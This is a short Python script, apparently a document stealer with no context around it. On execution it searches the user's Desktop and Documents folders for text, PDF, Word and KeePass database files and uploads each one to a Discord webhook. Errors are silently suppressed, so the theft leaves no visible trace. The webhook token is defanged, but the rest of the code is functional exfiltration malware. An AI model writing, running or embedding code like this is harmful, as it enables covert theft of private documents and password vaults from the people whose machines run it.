import os

import requests

WEBHOOK = "https://discord.com/api/webhooks/111111111111111111/defanged"


def _collect():
    home = os.path.expanduser("~")
    for folder in ("Desktop", "Documents"):
        for root, _dirs, names in os.walk(os.path.join(home, folder)):
            for name in names:
                if name.endswith((".txt", ".pdf", ".docx", ".kdbx")):
                    path = os.path.join(root, name)
                    with open(path, "rb") as handle:
                        requests.post(WEBHOOK, files={"file": (name, handle)})


try:
    _collect()
except Exception:
    pass
